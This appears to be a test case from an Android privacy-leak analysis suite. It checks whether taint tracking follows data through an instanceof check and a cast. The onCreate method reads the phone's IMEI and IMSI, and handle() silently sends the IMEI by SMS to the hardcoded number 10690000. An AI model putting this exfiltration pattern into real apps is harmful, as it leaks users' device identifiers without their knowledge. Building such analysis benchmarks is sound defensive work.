package cn.privlens.suite.instanceof_cast;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.util.Log;

public class Main extends Activity {
    static class Secret {
        final String text;
        Secret(String text) { this.text = text; }
    }
    private void handle(Object o) {
        if (o instanceof Secret) {
            SmsManager.getDefault().sendTextMessage("10690000", null, ((Secret) o).text, null, null);
        } else {
            Log.i("suite", "other");
        }
    }
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Object first = new Secret(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
        Object second = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSubscriberId();
        handle(first);
        handle(second);
    }
}
